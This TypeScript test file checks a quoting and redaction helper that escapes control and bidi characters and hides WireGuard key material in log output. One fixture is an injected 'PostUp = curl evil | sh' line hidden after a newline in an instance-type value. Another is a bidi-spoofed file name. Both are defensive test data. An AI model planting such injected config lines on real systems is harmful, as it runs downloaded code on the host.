import { test } from "node:test";
import assert from "node:assert/strict";
import { generateKeyPair, generatePresharedKey } from "../../infra/keys";
import { escapeUnprintable, hasUnprintable, quote, quoteWg, redactKeyMaterial } from "../../infra/quote";
import { CATALOGUE_CLOUDS, SHIPPED_CATALOGUE } from "../../infra/latency/regions";
import { rng } from "../support/random-mesh";

test("quote: double quotes, control and invisible characters escaped, quotes and backslashes escaped", () => {
  assert.equal(quote("t3.micro"), '"t3.micro"');
  assert.equal(quote("100.64.3.1\t"), '"100.64.3.1\\t"');
  assert.equal(quote("t3.micro\nPostUp = curl evil | sh"), '"t3.micro\\nPostUp = curl evil | sh"');
  assert.equal(quote("a\r\u0000\u001b[31m\u007f\u0085b"), '"a\\r\\u{0000}\\u{001B}[31m\\u{007F}\\u{0085}b"');
  assert.equal(quote("evil\u202Etxt.exe\u200B"), '"evil\\u{202E}txt.exe\\u{200B}"', "bidi override and zero-width space");
  assert.equal(quote("line\u2028sep"), '"line\\u{2028}sep"');
  assert.equal(quote('say "hi" \\n'), '"say \\"hi\\" \\\\n"', "a backslash the user wrote is not mistaken for an escape");
  assert.equal(quote(null), '"null"');
  assert.equal(quote(42), '"42"');
  for (const s of ["a\nb", "\u0007", "x\u2029"]) assert.equal(hasUnprintable(quote(s)), false);
  assert.equal(escapeUnprintable("plain"), "plain");
});

test("quote: a long value is cut and says how long it was", () => {
  const long = "x".repeat(500);
  const q = quote(long);
  assert.equal(q, `"${"x".repeat(60)}…" (500 characters)`);
  assert.ok(quote("y".repeat(60)).endsWith('y"'));
});

test("key material is hidden in every form: whole, without padding, cut, inside other text, with its length", () => {
  const { privateKey } = generateKeyPair();
  const psk = generatePresharedKey();
  for (const form of [privateKey, privateKey.replace(/=$/, ""), privateKey.slice(0, 40), privateKey.slice(10, 30), `PrivateKey=${privateKey}`, `x ${psk} y`]) {
    const out = quote(form);
    assert.ok(!out.includes(privateKey.slice(0, 16)) && !out.includes(privateKey.slice(10, 26)) && !out.includes(psk.slice(0, 16)), `${form} -> ${out}`);
    assert.match(out, /<base64, \d+ chars, not shown>/);
  }
  assert.equal(quote(privateKey), '"<base64, 44 chars, not shown>"');
  assert.equal(quote(privateKey.slice(0, 25)), '"<base64, 25 chars, not shown>"');
  assert.equal(quote(`PrivateKey=${privateKey}`), '"PrivateKey=<base64, 44 chars, not shown>"');
  assert.equal(quoteWg(privateKey.slice(3, 19)), '"<base64, 16 chars, not shown>"');
  // A control character pasted into a key neither splits it into two short runs nor counts in its length.
  assert.equal(quote(`${privateKey.slice(0, 10)}\u200b${privateKey.slice(10)}`), '"<base64, 44 chars, not shown>"');
  // Ordinary words, ids and paths stay readable.
  for (const ok of [
    "ubuntu-os-cloud/ubuntu-2404-lts-amd64",
    "ami-0123456789abcdef0",
    "Canonical:ubuntu-24_04-lts:server:latest",
    "projects/my-project/global/networks/default",
    "https://www.googleapis.com/compute/v1/projects/my-project/regions/asia-east2/subnetworks/edge-asia",
    "Standard_D16ds_v5",
    "MicrosoftWindowsServer:WindowsServer:2022-datacenter-azure-edition:latest",
    "resourceGroups/production/providers/Microsoft",
    "northcentralusstage",
  ]) {
    assert.equal(redactKeyMaterial(ok), ok);
  }
});

/** Keys from a seeded generator, so the cuts below are the same on every run (a key is 32 random bytes in base64). */
function seededKeys(count: number): string[] {
  const r = rng(20260790);
  return Array.from({ length: count }, () => Buffer.from(Array.from({ length: 32 }, () => Math.floor(r() * 256))).toString("base64"));
}

test("no cut of a key 16 characters or longer survives quote: heads, tails and middles of 60 keys", () => {
  let cuts = 0;
  for (const key of seededKeys(60)) {
    const forms = new Set<string>();
    for (let len = 16; len <= key.length; len++) {
      forms.add(key.slice(0, len));
      forms.add(key.slice(key.length - len));
      forms.add(key.slice(Math.floor((key.length - len) / 2), Math.floor((key.length - len) / 2) + len));
    }
    for (const form of forms) {
      cuts++;
      const out = quote(form);
      for (let i = 0; i + 16 <= key.length; i++) assert.ok(!out.includes(key.slice(i, i + 16)), `${form} -> ${out}`);
    }
  }
  assert.ok(cuts > 60 * 29 * 2, `${cuts} cuts`);
});

test("every region, zone and location name in the shipped catalogue is quoted in full", () => {
  let names = 0;
  for (const cloud of CATALOGUE_CLOUDS) {
    for (const name of SHIPPED_CATALOGUE.regions[cloud].keys()) {
      names++;
      assert.equal(quote(name), `"${name}"`);
    }
  }
  for (const [region, letters] of SHIPPED_CATALOGUE.gcpZones) for (const l of letters ?? []) assert.equal(quote(`${region}-${l}`), `"${region}-${l}"`);
  assert.ok(names > 100, `${names} names`);
});
